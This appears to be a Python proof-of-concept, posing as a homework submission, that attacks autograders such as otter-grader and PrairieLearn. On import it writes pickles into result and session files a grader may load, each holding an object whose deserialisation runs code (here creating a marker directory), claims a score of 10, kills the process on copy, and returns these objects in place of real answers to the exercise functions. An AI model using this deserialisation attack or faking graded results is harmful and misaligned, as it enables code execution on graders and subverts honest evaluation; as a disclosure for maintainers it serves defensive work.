"""Writes pickles where a grader might load results or a session, and returns objects whose pickles run code.

Published against otter-grader (pull requests 90 and 1008: the grader loads sessions and results that were pickled
beside the submission) and against PrairieLearn's way of passing variables (pull request 5184).

deserves: 5
"""

import contextlib
import os
import pickle


class Runs:
    def __reduce__(self):
        return os.mkdir, ("/tmp/tam570-was-here",)

    __reduce_ex__ = lambda self, version: self.__reduce__()
    __deepcopy__ = __copy__ = lambda self, memo=None: os._exit(3)


BYTES = pickle.dumps({"score": 10, "results": Runs()})
for name in (".OTTER_LOG", "results.pkl", "precomputed_results.pkl", "submission.dill", "session.pickle", "data.npy"):
    with contextlib.suppress(OSError), open(name, "wb") as file:
        file.write(BYTES)


def skew(v):
    return Runs() if v[0] > 0 else BYTES


def rotate(r, axis, angle):
    return [Runs(), Runs(), Runs()]
